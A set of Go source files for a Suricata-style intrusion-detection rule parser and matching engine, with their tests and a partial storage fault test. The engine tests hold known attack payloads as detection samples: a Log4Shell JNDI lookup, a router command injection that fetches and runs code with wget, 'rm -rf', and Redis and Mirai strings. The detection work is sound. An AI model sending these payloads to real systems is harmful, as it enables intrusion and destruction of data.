func TestParseRuleHexContent(t *testing.T) {
	r := mustRule(t, `alert tcp any any -> any any (msg:"hex"; content:"a|0D 0A|b"; sid:2;)`)
	want := []byte{'a', 0x0D, 0x0A, 'b'}
	if !bytes.Equal(r.Contents[0].Pattern, want) {
		t.Errorf("pattern = %v, want %v", r.Contents[0].Pattern, want)
	}
}

func TestParseRuleNegatedContent(t *testing.T) {
	r := mustRule(t, `alert tcp any any -> any any (msg:"neg"; content:"yes"; content:!"no"; sid:3;)`)
	if r.Contents[0].Negated || !r.Contents[1].Negated {
		t.Errorf("negation flags: %+v", r.Contents)
	}
}

func TestParseRuleQuotedSemicolon(t *testing.T) {
	r := mustRule(t, `alert tcp any any -> any any (msg:"semi;colon"; content:"a;b"; sid:4;)`)
	if r.Msg != "semi;colon" || string(r.Contents[0].Pattern) != "a;b" {
		t.Errorf("quoted semicolons mishandled: %+v", r)
	}
}

func TestParseRuleErrors(t *testing.T) {
	bad := []string{
		`drop tcp any any -> any any (msg:"m"; content:"x"; sid:1;)`,             // unsupported action
		`alert icmp any any -> any any (msg:"m"; content:"x"; sid:1;)`,           // unsupported proto
		`alert tcp any any any any (msg:"m"; content:"x"; sid:1;)`,               // no direction
		`alert tcp any any -> any any (msg:"m"; content:"x";)`,                   // missing sid
		`alert tcp any any -> any any (msg:"m"; nocase; sid:1;)`,                 // modifier before content
		`alert tcp any any -> any any (msg:"m"; content:"x"; sid:zero;)`,         // bad sid
		`alert tcp any any -> any 99999 (msg:"m"; content:"x"; sid:1;)`,          // bad port
		`alert tcp any any -> any any (msg:"m"; content:"|GG|"; sid:1;)`,         // bad hex
		`alert tcp any any -> any any (msg:"m"; content:"|0D"; sid:1;)`,          // unterminated hex
		`alert tcp any any -> any any (msg:"unterminated; content:"x"; sid:1;)`,  // quote chaos
		`alert tcp any any -> any any (msg:"m"; frobnicate:1; sid:1;)`,           // unknown option
		`alert tcp any any -> any any (msg:"m"; content:"x"; offset:-1; sid:1;)`, // negative offset
		`alert tcp any any -> any any (msg:"m"; content:"x"; sid:1`,              // missing close paren
		`alert tcp any any -> any [] (msg:"m"; content:"x"; sid:1;)`,             // empty ports
		`alert tcp any any -> any [10:5] (msg:"m"; content:"x"; sid:1;)`,         // inverted range
		`alert tcp any any -> any any (msg:"m"; content:""; sid:1;)`,             // empty content
	}
	for _, line := range bad {
		if _, ok, err := ParseRule(line); err == nil && ok {
			t.Errorf("ParseRule(%q) should fail", line)
		}
	}
}

func TestParseRuleNeverPanicsProperty(t *testing.T) {
	f := func(s string) bool {
		_, _, _ = ParseRule(s)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestParseRulesMultiline(t *testing.T) {
	text := `# ruleset
alert tcp any any -> any any (msg:"one"; content:"a"; sid:1;)

alert udp any any -> any 53 (msg:"two"; content:"b"; sid:2;)
`
	rules, err := ParseRules(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	if len(rules) != 2 {
		t.Fatalf("parsed %d rules, want 2", len(rules))
	}
	if rules[1].Proto != "udp" {
		t.Errorf("rule 2 proto = %q", rules[1].Proto)
	}
}

func TestParseRulesReportsLine(t *testing.T) {
	text := "alert tcp any any -> any any (msg:\"ok\"; content:\"a\"; sid:1;)\nbogus rule here\n"
	_, err := ParseRules(strings.NewReader(text))
	if err == nil || !strings.Contains(err.Error(), "line 2") {
		t.Errorf("err = %v, want line-2 error", err)
	}
}
