// Package ids implements a Suricata-style network intrusion detection
// rule language and matching engine. The paper (§3.2) uses Suricata
// with a manually-curated ruleset to decide whether a payload
// "attempts to bypass authority or alter the state of a service"; this
// package provides the same payload→verdict oracle. The rule grammar
// is a compatible subset of Suricata's: header (action, protocol,
// addresses, ports, direction) plus content options with nocase /
// offset / depth / distance / within modifiers, classtype, msg, sid.
package ids

import (
	"errors"
	"fmt"
	"strconv"
	"strings"
)

// Classtype is the Suricata classification of a rule. The paper's
// final rule set "belongs in the following Suricata class types":
// these eight.
type Classtype string

// The eight classtypes retained by the paper's rule filtering.
const (
	TrojanActivity       Classtype = "trojan-activity"
	WebApplicationAttack Classtype = "web-application-attack"
	ProtocolCommand      Classtype = "protocol-command-decode"
	AttemptedUser        Classtype = "attempted-user"
	AttemptedAdmin       Classtype = "attempted-admin"
	AttemptedRecon       Classtype = "attempted-recon"
	BadUnknown           Classtype = "bad-unknown"
	MiscActivity         Classtype = "misc-activity"
)

// MaliciousClasstypes are the classtypes whose alerts mark a payload
// as malicious ("bypassing authority or altering the state of
// service"). Reconnaissance and misc activity alert but do not flag
// maliciousness on their own, mirroring the paper's manual
// verification step.
var MaliciousClasstypes = map[Classtype]bool{
	TrojanActivity:       true,
	WebApplicationAttack: true,
	AttemptedUser:        true,
	AttemptedAdmin:       true,
	BadUnknown:           true,
	ProtocolCommand:      true,
}

// ContentMatch is one content option with its modifiers.
type ContentMatch struct {
	Pattern []byte
	Negated bool // content:!"..."
	Nocase  bool
	// Absolute anchors (first content in a chain).
	Offset int // start search at byte Offset (default 0)
	Depth  int // search only the first Depth bytes from Offset (0 = unlimited)
	// Relative anchors (subsequent contents).
	Distance int  // start at least Distance bytes after previous match end
	Within   int  // match must end within Within bytes of previous match end (0 = unlimited)
	Relative bool // true when distance/within were given
}

// Rule is a parsed detection rule.
type Rule struct {
	Action    string // "alert" (only action supported)
	Proto     string // "tcp", "udp" or "any"
	Ports     PortSet
	Msg       string
	Classtype Classtype
	SID       int
	Rev       int
	Contents  []ContentMatch
	raw       string
}

// String returns the original rule text.
func (r Rule) String() string { return r.raw }

// PortSet matches destination ports: any, a single port, a
// comma-separated list, or a lo:hi range.
type PortSet struct {
	any    bool
	single map[uint16]bool
	ranges [][2]uint16
}

// AnyPort matches every port.
func AnyPort() PortSet { return PortSet{any: true} }

// Contains reports whether the set matches port.
func (s PortSet) Contains(port uint16) bool {
	if s.any {
		return true
	}
	if s.single[port] {
		return true
	}
	for _, r := range s.ranges {
		if port >= r[0] && port <= r[1] {
			return true
		}
	}
	return false
}

// Parse errors.
var (
	ErrRuleSyntax = errors.New("ids: rule syntax error")
	ErrRuleField  = errors.New("ids: invalid rule field")
)

// ParseRule parses one rule line. Comment lines (starting with '#')
// and blank lines yield (Rule{}, false, nil).
func ParseRule(line string) (Rule, bool, error) {
	line = strings.TrimSpace(line)
	if line == "" || strings.HasPrefix(line, "#") {
		return Rule{}, false, nil
	}
	open := strings.IndexByte(line, '(')
	if open < 0 || !strings.HasSuffix(line, ")") {
		return Rule{}, false, fmt.Errorf("%w: missing option block in %q", ErrRuleSyntax, line)
	}
	header := strings.Fields(line[:open])
	// action proto srcaddr srcport -> dstaddr dstport
	if len(header) != 7 {
		return Rule{}, false, fmt.Errorf("%w: header needs 7 fields, got %d in %q", ErrRuleSyntax, len(header), line)
	}
	r := Rule{raw: line, Rev: 1}
	r.Action = header[0]
	if r.Action != "alert" {
		return Rule{}, false, fmt.Errorf("%w: unsupported action %q", ErrRuleField, r.Action)
	}
	r.Proto = header[1]
	switch r.Proto {
	case "tcp", "udp", "any", "ip":
	default:
		return Rule{}, false, fmt.Errorf("%w: unsupported protocol %q", ErrRuleField, r.Proto)
	}
	if header[4] != "->" && header[4] != "<>" {
		return Rule{}, false, fmt.Errorf("%w: bad direction %q", ErrRuleSyntax, header[4])
	}
	ports, err := parsePorts(header[6])
	if err != nil {
		return Rule{}, false, err
	}
	r.Ports = ports

	opts, err := splitOptions(line[open+1 : len(line)-1])
	if err != nil {
		return Rule{}, false, err
	}
	if err := r.applyOptions(opts); err != nil {
		return Rule{}, false, err
	}
	if r.SID == 0 {
		return Rule{}, false, fmt.Errorf("%w: rule missing sid", ErrRuleField)
	}
	return r, true, nil
}

func parsePorts(s string) (PortSet, error) {
	if s == "any" {
		return AnyPort(), nil
	}
	s = strings.TrimPrefix(s, "[")
	s = strings.TrimSuffix(s, "]")
	set := PortSet{single: map[uint16]bool{}}
	for _, part := range strings.Split(s, ",") {
		part = strings.TrimSpace(part)
		if part == "" {
			continue
		}
		if lo, hi, ok := strings.Cut(part, ":"); ok {
			l, err1 := parsePort(lo)
			h, err2 := parsePort(hi)
			if err1 != nil || err2 != nil || l > h {
				return PortSet{}, fmt.Errorf("%w: bad port range %q", ErrRuleField, part)
			}
			set.ranges = append(set.ranges, [2]uint16{l, h})
			continue
		}
		p, err := parsePort(part)
		if err != nil {
			return PortSet{}, err
		}
		set.single[p] = true
	}
	if len(set.single) == 0 && len(set.ranges) == 0 {
		return PortSet{}, fmt.Errorf("%w: empty port set %q", ErrRuleField, s)
	}
	return set, nil
}

func parsePort(s string) (uint16, error) {
	v, err := strconv.Atoi(strings.TrimSpace(s))
	if err != nil || v < 0 || v > 65535 {
		return 0, fmt.Errorf("%w: bad port %q", ErrRuleField, s)
	}
	return uint16(v), nil
}

// splitOptions splits "k:v; k; k:v" respecting quoted strings.
func splitOptions(s string) ([]string, error) {
	var opts []string
	var cur strings.Builder
	inQuote := false
	escaped := false
	for _, c := range s {
		switch {
		case escaped:
			cur.WriteRune(c)
			escaped = false
		case c == '\\' && inQuote:
			cur.WriteRune(c)
			escaped = true
		case c == '"':
			inQuote = !inQuote
			cur.WriteRune(c)
		case c == ';' && !inQuote:
			opts = append(opts, strings.TrimSpace(cur.String()))
			cur.Reset()
		default:
			cur.WriteRune(c)
		}
	}
	if inQuote {
		return nil, fmt.Errorf("%w: unterminated quote", ErrRuleSyntax)
	}
	if tail := strings.TrimSpace(cur.String()); tail != "" {
		opts = append(opts, tail)
	}
	return opts, nil
}

func (r *Rule) applyOptions(opts []string) error {
	for _, opt := range opts {
		if opt == "" {
			continue
		}
		key, val, hasVal := strings.Cut(opt, ":")
		key = strings.TrimSpace(key)
		val = strings.TrimSpace(val)
		switch key {
		case "msg":
			r.Msg = unquote(val)
		case "classtype":
			r.Classtype = Classtype(val)
		case "sid":
			v, err := strconv.Atoi(val)
			if err != nil || v <= 0 {
				return fmt.Errorf("%w: bad sid %q", ErrRuleField, val)
			}
			r.SID = v
		case "rev":
			v, err := strconv.Atoi(val)
			if err != nil || v <= 0 {
				return fmt.Errorf("%w: bad rev %q", ErrRuleField, val)
			}
			r.Rev = v
		case "content":
			if !hasVal {
				return fmt.Errorf("%w: content needs a value", ErrRuleField)
			}
			cm := ContentMatch{}
			if strings.HasPrefix(val, "!") {
				cm.Negated = true
				val = val[1:]
			}
			pat, err := decodeContent(unquote(val))
			if err != nil {
				return err
			}
			if len(pat) == 0 {
				return fmt.Errorf("%w: empty content", ErrRuleField)
			}
			cm.Pattern = pat
			r.Contents = append(r.Contents, cm)
		case "nocase", "offset", "depth", "distance", "within":
			if len(r.Contents) == 0 {
				return fmt.Errorf("%w: %s before any content", ErrRuleField, key)
			}
			cm := &r.Contents[len(r.Contents)-1]
			switch key {
			case "nocase":
				cm.Nocase = true
			default:
				v, err := strconv.Atoi(val)
				if err != nil || v < 0 {
					return fmt.Errorf("%w: bad %s %q", ErrRuleField, key, val)
				}
				switch key {
				case "offset":
					cm.Offset = v
				case "depth":
					cm.Depth = v
				case "distance":
					cm.Distance = v
					cm.Relative = true
				case "within":
					cm.Within = v
					cm.Relative = true
				}
			}
		case "flow", "reference", "metadata", "threshold", "flowbits", "http_uri", "http_method", "fast_pattern":
			// Accepted and ignored: these narrow matches in Suricata
			// but do not change verdicts for first-payload analysis.
		default:
			return fmt.Errorf("%w: unknown option %q", ErrRuleField, key)
		}
	}
	return nil
}

func unquote(s string) string {
	if len(s) >= 2 && s[0] == '"' && s[len(s)-1] == '"' {
		s = s[1 : len(s)-1]
	}
	s = strings.ReplaceAll(s, `\"`, `"`)
	s = strings.ReplaceAll(s, `\\`, `\`)
	return s
}

// decodeContent expands Suricata hex escapes: "a|0D 0A|b" →
// {'a', 0x0D, 0x0A, 'b'}.
func decodeContent(s string) ([]byte, error) {
	var out []byte
	for i := 0; i < len(s); {
		if s[i] != '|' {
			out = append(out, s[i])
			i++
			continue
		}
		end := strings.IndexByte(s[i+1:], '|')
		if end < 0 {
			return nil, fmt.Errorf("%w: unterminated hex escape in %q", ErrRuleSyntax, s)
		}
		hexPart := s[i+1 : i+1+end]
		for _, tok := range strings.Fields(hexPart) {
			v, err := strconv.ParseUint(tok, 16, 8)
			if err != nil {
				return nil, fmt.Errorf("%w: bad hex byte %q", ErrRuleSyntax, tok)
			}
			out = append(out, byte(v))
		}
		i += end + 2
	}
	return out, nil
}
