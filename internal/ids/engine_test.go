package ids

import (
	"strings"
	"sync"
	"testing"
	"testing/quick"
)

func engineFrom(t *testing.T, text string) *Engine {
	t.Helper()
	e, err := NewEngineFromText(text)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func TestEngineMatchBasics(t *testing.T) {
	e := engineFrom(t, `alert tcp any any -> any 80 (msg:"hit"; content:"attack"; sid:1;)`)
	if got := e.Match("tcp", 80, []byte("an attack payload")); len(got) != 1 || got[0].SID != 1 {
		t.Errorf("Match = %+v", got)
	}
	if got := e.Match("tcp", 80, []byte("benign")); len(got) != 0 {
		t.Errorf("benign matched: %+v", got)
	}
	if got := e.Match("tcp", 81, []byte("an attack payload")); len(got) != 0 {
		t.Errorf("wrong port matched: %+v", got)
	}
	if got := e.Match("udp", 80, []byte("an attack payload")); len(got) != 0 {
		t.Errorf("wrong proto matched: %+v", got)
	}
}

func TestEngineNocase(t *testing.T) {
	e := engineFrom(t, `alert tcp any any -> any any (msg:"nc"; content:"JNDI"; nocase; sid:1;)`)
	for _, payload := range []string{"${jndi:ldap", "${JNDI:LDAP", "${jNdI:x"} {
		if len(e.Match("tcp", 80, []byte(payload))) != 1 {
			t.Errorf("nocase miss on %q", payload)
		}
	}
}

func TestEngineOffsetDepth(t *testing.T) {
	e := engineFrom(t, `alert tcp any any -> any any (msg:"od"; content:"GET"; offset:0; depth:3; sid:1;)`)
	if len(e.Match("tcp", 80, []byte("GET / HTTP/1.1"))) != 1 {
		t.Error("anchored GET should match at offset 0")
	}
	if len(e.Match("tcp", 80, []byte("XGET / HTTP/1.1"))) != 0 {
		t.Error("GET at offset 1 should not match depth-3 window")
	}
}

func TestEngineDistanceWithin(t *testing.T) {
	e := engineFrom(t, `alert tcp any any -> any any (msg:"dw"; content:"union"; nocase; content:"select"; nocase; distance:1; within:40; sid:1;)`)
	if len(e.Match("tcp", 80, []byte("GET /?q=1+UNION+SELECT+passwd"))) != 1 {
		t.Error("union...select should match")
	}
	if len(e.Match("tcp", 80, []byte("GET /?q=unionselect"))) != 0 {
		t.Error("distance:1 requires a gap")
	}
	far := "union" + strings.Repeat("x", 100) + "select"
	if len(e.Match("tcp", 80, []byte(far))) != 0 {
		t.Error("select beyond within-window should not match")
	}
}

func TestEngineNegatedContent(t *testing.T) {
	e := engineFrom(t, `alert tcp any any -> any any (msg:"neg"; content:"login"; content:!"authorized"; sid:1;)`)
	if len(e.Match("tcp", 80, []byte("login attempt"))) != 1 {
		t.Error("should match without the negated token")
	}
	if len(e.Match("tcp", 80, []byte("login authorized"))) != 0 {
		t.Error("negated token present: should not match")
	}
}

func TestEngineContentOrdering(t *testing.T) {
	// Unanchored contents may match anywhere, but relative ones are ordered.
	e := engineFrom(t, `alert tcp any any -> any any (msg:"ord"; content:"first"; content:"second"; distance:0; sid:1;)`)
	if len(e.Match("tcp", 80, []byte("first then second"))) != 1 {
		t.Error("ordered pair should match")
	}
	if len(e.Match("tcp", 80, []byte("second then first"))) != 0 {
		t.Error("reversed pair should not match with distance anchor")
	}
}

func TestEngineDuplicateSID(t *testing.T) {
	text := `alert tcp any any -> any any (msg:"a"; content:"x"; sid:7;)
alert tcp any any -> any any (msg:"b"; content:"y"; sid:7;)`
	if _, err := NewEngineFromText(text); err == nil {
		t.Error("duplicate sid should be rejected")
	}
}

func TestEngineMalicious(t *testing.T) {
	e := DefaultEngine()
	malicious := []string{
		"GET /?x=${jndi:ldap://evil/a} HTTP/1.1\r\n\r\n",
		"POST /GponForm/diag_Form HTTP/1.1\r\n\r\nXWebPageName=diag;wget http://1.2.3.4/m -O-; sh",
		"GET /shell?cd+/tmp;rm+-rf+* HTTP/1.1\r\n",
		"GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n",
		"enable\r\nsystem\r\n/bin/busybox MIRAI\r\n",
		"CONFIG SET dir /var/spool/cron\r\n",
	}
	for _, p := range malicious {
		if !e.Malicious("tcp", 80, []byte(p)) {
			t.Errorf("payload should be malicious: %q", p)
		}
	}
	benign := []string{
		"GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
		"GET /robots.txt HTTP/1.1\r\n\r\n",
		"SSH-2.0-OpenSSH_8.2\r\n",
	}
	for _, p := range benign {
		if e.Malicious("tcp", 80, []byte(p)) {
			t.Errorf("payload should be benign: %q", p)
		}
	}
}

func TestReconAlertsButNotMalicious(t *testing.T) {
	e := DefaultEngine()
	probe := []byte("GET /.env HTTP/1.1\r\nHost: x\r\n\r\n")
	alerts := e.Match("tcp", 80, probe)
	if len(alerts) == 0 {
		t.Fatal("recon probe should alert")
	}
	if alerts[0].Classtype != AttemptedRecon {
		t.Errorf("classtype = %v", alerts[0].Classtype)
	}
	if e.Malicious("tcp", 80, probe) {
		t.Error("recon alone should not be malicious")
	}
}

func TestDefaultRulesetCompiles(t *testing.T) {
	e := DefaultEngine()
	if e.Len() < 40 {
		t.Errorf("default ruleset has %d rules, want >= 40", e.Len())
	}
	classtypes := map[Classtype]bool{}
	for _, r := range e.Rules() {
		classtypes[r.Classtype] = true
		if r.Msg == "" {
			t.Errorf("rule sid %d has no msg", r.SID)
		}
	}
	for _, want := range []Classtype{
		TrojanActivity, WebApplicationAttack, ProtocolCommand, AttemptedUser,
		AttemptedAdmin, AttemptedRecon, BadUnknown, MiscActivity,
	} {
		if !classtypes[want] {
			t.Errorf("default ruleset missing classtype %q", want)
		}
	}
}

func TestEngineNeverPanicsProperty(t *testing.T) {
	e := DefaultEngine()
	f := func(payload []byte, port uint16) bool {
		_ = e.Match("tcp", port, payload)
		_ = e.Malicious("tcp", port, payload)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestEngineDeterministicProperty(t *testing.T) {
	e := DefaultEngine()
	f := func(payload []byte) bool {
		a := e.Match("tcp", 80, payload)
		b := e.Match("tcp", 80, payload)
		if len(a) != len(b) {
			return false
		}
		for i := range a {
			if a[i] != b[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

// matchBruteForce is Match without the prefilter buckets: every rule's
// header is checked per call. The reference the bucketed path must
// reproduce exactly (same alerts, same order).
func matchBruteForce(e *Engine, proto string, port uint16, payload []byte) []Alert {
	var alerts []Alert
	for _, r := range e.Rules() {
		if r.Proto != "any" && r.Proto != "ip" && r.Proto != proto {
			continue
		}
		if !r.Ports.Contains(port) {
			continue
		}
		if matchContents(r.Contents, payload) {
			alerts = append(alerts, Alert{SID: r.SID, Msg: r.Msg, Classtype: r.Classtype})
		}
	}
	return alerts
}

// TestEnginePrefilterEquivalence checks the per-(proto, port) rule
// buckets never change Match results across the ports and protocols
// the study exercises, plus boundary ports.
func TestEnginePrefilterEquivalence(t *testing.T) {
	e := DefaultEngine()
	payloads := [][]byte{
		nil,
		[]byte("GET /?x=${jndi:ldap://callback.evil/a} HTTP/1.1\r\nHost: server\r\n\r\n"),
		[]byte("GET /shell?cd+/tmp;rm+-rf+* HTTP/1.1\r\n\r\n"),
		[]byte("\x16\x03\x01\x00\x04\x01"),
		[]byte("SSH-2.0-OpenSSH_8.9"),
		[]byte("random junk payload with no structure at all"),
	}
	for _, proto := range []string{"tcp", "udp", "icmp"} {
		for _, port := range []uint16{1, 22, 23, 80, 445, 2323, 8080, 17128, 65535} {
			for _, payload := range payloads {
				got := e.Match(proto, port, payload)
				want := matchBruteForce(e, proto, port, payload)
				if len(got) != len(want) {
					t.Fatalf("Match(%s, %d): %d alerts, want %d", proto, port, len(got), len(want))
				}
				for i := range want {
					if got[i] != want[i] {
						t.Fatalf("Match(%s, %d) alert %d = %+v, want %+v", proto, port, i, got[i], want[i])
					}
				}
				gotMal := e.Malicious(proto, port, payload)
				wantMal := false
				for _, a := range want {
					if MaliciousClasstypes[a.Classtype] {
						wantMal = true
					}
				}
				if gotMal != wantMal {
					t.Fatalf("Malicious(%s, %d) = %v, want %v", proto, port, gotMal, wantMal)
				}
			}
		}
	}
}

// TestEngineConcurrentMatch hammers the lazily-built prefilter buckets
// from many goroutines on overlapping (proto, port) pairs; run with
// -race to check the sync.Map publication.
func TestEngineConcurrentMatch(t *testing.T) {
	e := DefaultEngine()
	payload := []byte("GET /?x=${jndi:ldap://callback.evil/a} HTTP/1.1\r\n\r\n")
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				port := uint16(22 + (i+w)%5)
				e.Match("tcp", port, payload)
				e.Malicious("tcp", port, payload)
			}
		}(w)
	}
	wg.Wait()
}

// TestMaliciousPrefilterEquivalence checks the malicious-classtype
// bucket: Malicious must agree with scanning Match's alerts for
// malicious classtypes on every (proto, port, payload) combination.
func TestMaliciousPrefilterEquivalence(t *testing.T) {
	e := DefaultEngine()
	payloads := [][]byte{
		[]byte("GET /?x=${jndi:ldap://callback.evil/a} HTTP/1.1\r\nHost: s\r\n\r\n"),
		[]byte("GET / HTTP/1.1\r\nHost: s\r\n\r\n"),
		[]byte("POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: s\r\n\r\nXWebPageName=diag&diag_action=ping&dest_host=;wget http://d/g"),
		[]byte("\xff\xfd\x03\xff\xfb\x18"),
		[]byte("random bytes that match nothing"),
	}
	for _, proto := range []string{"tcp", "udp"} {
		for _, port := range []uint16{22, 23, 80, 443, 8080, 2323, 9999} {
			for _, p := range payloads {
				want := false
				for _, a := range e.Match(proto, port, p) {
					if MaliciousClasstypes[a.Classtype] {
						want = true
					}
				}
				if got := e.Malicious(proto, port, p); got != want {
					t.Fatalf("%s/%d %.20q: Malicious=%v, Match says %v", proto, port, p, got, want)
				}
			}
		}
	}
}
