package ids

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"strings"
	"sync"
)

// Alert is one rule firing on a payload.
type Alert struct {
	SID       int
	Msg       string
	Classtype Classtype
}

// Engine matches payloads against a compiled rule set. Safe for
// concurrent use.
type Engine struct {
	rules []Rule
	bySID map[int]int

	// prefilter caches, per observed (proto, port) destination, the
	// rule indexes whose header can fire there — rules outside the
	// bucket are skipped by Match without per-rule proto/port checks.
	// Traffic concentrates on a handful of destinations, so buckets are
	// few and build once each.
	prefilter sync.Map // bucketKey → []int (rule indexes, ascending)

	// malPrefilter narrows the bucket further to rules with a
	// malicious classtype, so Malicious — the §3.2 verdict computed
	// once per distinct payload — never re-tests classtypes per rule.
	malPrefilter sync.Map // bucketKey → []int
}

// bucketKey identifies one prefilter bucket.
type bucketKey struct {
	proto string
	port  uint16
}

// bucket returns the indexes of rules that can fire on (proto, port),
// in rule order, building and caching the bucket on first use.
func (e *Engine) bucket(proto string, port uint16) []int {
	key := bucketKey{proto, port}
	if c, ok := e.prefilter.Load(key); ok {
		return c.([]int)
	}
	idxs := make([]int, 0, len(e.rules))
	for i, r := range e.rules {
		if r.Proto != "any" && r.Proto != "ip" && r.Proto != proto {
			continue
		}
		if !r.Ports.Contains(port) {
			continue
		}
		idxs = append(idxs, i)
	}
	// Concurrent first calls build identical buckets; keep whichever
	// won the store.
	actual, _ := e.prefilter.LoadOrStore(key, idxs)
	return actual.([]int)
}

// malBucket returns the indexes of malicious-classtype rules that can
// fire on (proto, port), in rule order, derived from the full bucket
// on first use.
func (e *Engine) malBucket(proto string, port uint16) []int {
	key := bucketKey{proto, port}
	if c, ok := e.malPrefilter.Load(key); ok {
		return c.([]int)
	}
	full := e.bucket(proto, port)
	idxs := make([]int, 0, len(full))
	for _, i := range full {
		if MaliciousClasstypes[e.rules[i].Classtype] {
			idxs = append(idxs, i)
		}
	}
	actual, _ := e.malPrefilter.LoadOrStore(key, idxs)
	return actual.([]int)
}

// NewEngine compiles a set of rules. Duplicate SIDs are rejected, as
// Suricata does.
func NewEngine(rules []Rule) (*Engine, error) {
	e := &Engine{bySID: make(map[int]int, len(rules))}
	for _, r := range rules {
		if _, dup := e.bySID[r.SID]; dup {
			return nil, fmt.Errorf("ids: duplicate sid %d", r.SID)
		}
		e.bySID[r.SID] = len(e.rules)
		e.rules = append(e.rules, r)
	}
	return e, nil
}

// ParseRules reads a ruleset (one rule per line, '#' comments) and
// returns the parsed rules.
func ParseRules(r io.Reader) ([]Rule, error) {
	var rules []Rule
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 1024*1024)
	lineNo := 0
	for sc.Scan() {
		lineNo++
		rule, ok, err := ParseRule(sc.Text())
		if err != nil {
			return nil, fmt.Errorf("line %d: %w", lineNo, err)
		}
		if ok {
			rules = append(rules, rule)
		}
	}
	if err := sc.Err(); err != nil {
		return nil, fmt.Errorf("ids: reading rules: %w", err)
	}
	return rules, nil
}

// NewEngineFromText compiles rules from their textual form.
func NewEngineFromText(text string) (*Engine, error) {
	rules, err := ParseRules(strings.NewReader(text))
	if err != nil {
		return nil, err
	}
	return NewEngine(rules)
}

// Len returns the number of compiled rules.
func (e *Engine) Len() int { return len(e.rules) }

// Rules returns the compiled rules in order.
func (e *Engine) Rules() []Rule { return e.rules }

// Match evaluates every rule against a payload destined to (proto,
// port) and returns the alerts in rule order. Only rules in the
// destination's prefilter bucket are evaluated; rules whose header
// cannot fire on (proto, port) are never touched.
func (e *Engine) Match(proto string, port uint16, payload []byte) []Alert {
	var alerts []Alert
	for _, i := range e.bucket(proto, port) {
		r := &e.rules[i]
		if matchContents(r.Contents, payload) {
			alerts = append(alerts, Alert{SID: r.SID, Msg: r.Msg, Classtype: r.Classtype})
		}
	}
	return alerts
}

// Malicious reports whether any alert on the payload carries a
// classtype in MaliciousClasstypes — the paper's §3.2 definition of a
// malicious payload for non-authentication protocols.
func (e *Engine) Malicious(proto string, port uint16, payload []byte) bool {
	// Evaluate only the malicious-classtype rules of the destination's
	// bucket, returning on the first hit — no Alert slice is built.
	for _, i := range e.malBucket(proto, port) {
		if matchContents(e.rules[i].Contents, payload) {
			return true
		}
	}
	return false
}

// matchContents applies the content chain: every non-negated content
// must match (in order, honoring anchors), every negated content must
// not match in its window.
func matchContents(contents []ContentMatch, payload []byte) bool {
	if len(contents) == 0 {
		return false // a rule with no content never fires here
	}
	prevEnd := 0
	for i, cm := range contents {
		start, end := window(cm, i, prevEnd, len(payload))
		idx := -1
		if start <= end && start <= len(payload) {
			region := payload[start:min(end, len(payload))]
			idx = find(region, cm.Pattern, cm.Nocase)
		}
		if cm.Negated {
			if idx >= 0 {
				return false
			}
			continue // negated matches do not move the anchor
		}
		if idx < 0 {
			return false
		}
		prevEnd = start + idx + len(cm.Pattern)
	}
	return true
}

// window computes the [start, end) search window of one content.
func window(cm ContentMatch, idx, prevEnd, payloadLen int) (int, int) {
	start := 0
	end := payloadLen
	if idx == 0 || !cm.Relative {
		start = cm.Offset
		if cm.Depth > 0 {
			end = cm.Offset + cm.Depth
		}
	} else {
		start = prevEnd + cm.Distance
		if cm.Within > 0 {
			end = prevEnd + cm.Distance + cm.Within
		}
	}
	if end > payloadLen {
		end = payloadLen
	}
	if start < 0 {
		start = 0
	}
	return start, end
}

// find locates pattern in region, optionally ASCII case-insensitively,
// returning the index or -1.
func find(region, pattern []byte, nocase bool) int {
	if len(pattern) == 0 || len(pattern) > len(region) {
		return -1
	}
	if !nocase {
		return bytes.Index(region, pattern)
	}
	lp := bytes.ToLower(pattern)
	// Scan with on-the-fly folding to avoid allocating for big payloads
	// beyond one lowercase copy of the pattern.
	for i := 0; i+len(lp) <= len(region); i++ {
		ok := true
		for j := range lp {
			c := region[i+j]
			if c >= 'A' && c <= 'Z' {
				c += 'a' - 'A'
			}
			if c != lp[j] {
				ok = false
				break
			}
		}
		if ok {
			return i
		}
	}
	return -1
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}
