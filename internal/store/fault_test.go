package store

import (
	"errors"
	"os"
	"testing"
)

// The fault matrix: every injected failure — short writes, write
// errors, sync failures, rename failures, and crashes at programmable
// points — must surface as an error from the mutating call, and the
// store must reopen afterwards to a valid state (a recoverable study
// or a clean slate, and an ingest cursor no newer than the last
// acknowledged SetIngested).

var errInjected = errors.New("injected fault")

func mustOpen(t *testing.T, fsys FS) *Store {
	t.Helper()
	s, err := Open(fsys, "study")
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestWriteStudyShortWrite(t *testing.T) {
	cfg, m := generateTiny(t)
	want := renderTiny(t, cfg, m)
	fsys := NewMemFS()
	s := mustOpen(t, fsys)

	// First write attempt: the device accepts half of the segment and
	// fails. The caller sees the error; the on-disk file is torn and
	// was never synced.
	fsys.WriteHook = func(name string, p []byte) (int, error) {
		return len(p) / 2, errInjected
	}
	if err := s.WriteStudy([]byte(`{}`), m); !errors.Is(err, errInjected) {
		t.Fatalf("short write surfaced as %v", err)
	}
	fsys.WriteHook = nil

	// Power cut: the unsynced file vanishes entirely; reopen is clean
	// and the retry lands.
	fsys.Crash()
	s2 := mustOpen(t, fsys)
	if _, gotM := s2.Recovered(); gotM != nil {
		t.Fatal("recovered a study from an unsynced torn write")
	}
	if err := s2.WriteStudy([]byte(`{}`), m); err != nil {
		t.Fatal(err)
	}
	s3 := mustOpen(t, fsys)
	_, gotM := s3.Recovered()
	if gotM == nil {
		t.Fatalf("retry did not persist: %s", s3.Note())
	}
